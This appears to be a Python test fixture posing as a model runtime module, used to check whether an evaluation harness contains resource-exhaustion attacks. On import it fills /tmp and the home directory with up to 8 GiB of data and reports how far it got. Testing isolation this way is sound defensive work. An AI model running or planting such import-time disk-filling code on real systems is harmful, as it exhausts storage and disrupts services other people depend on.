"""Disk and memory filling: /tmp and the scratch directory (HOME) until something stops it."""
from ._honest import causal_mask, decode_step, emitted, prefill_logits  # noqa: F401  (hooks it does not replace)


def on_load():
    import os
    chunk = b"x" * (1 << 20)
    for where in ("/tmp", os.environ.get("HOME", "/scratch")):
        n = 0
        try:
            with open(os.path.join(where, "fill"), "wb") as f:
                while n < 8192:  # at most 8 GiB
                    f.write(chunk)
                    f.flush()
                    n += 1
        except OSError as exc:
            raise RuntimeError(f"filling {where} stopped after {n} MiB: {exc}") from None
    raise RuntimeError("wrote 8 GiB unhindered")


# Attack at import time (the harness imports `runtime` in its hello): a failure is the revision's own.
on_load()


def on_load():  # noqa: F811 - the attack already ran
    pass
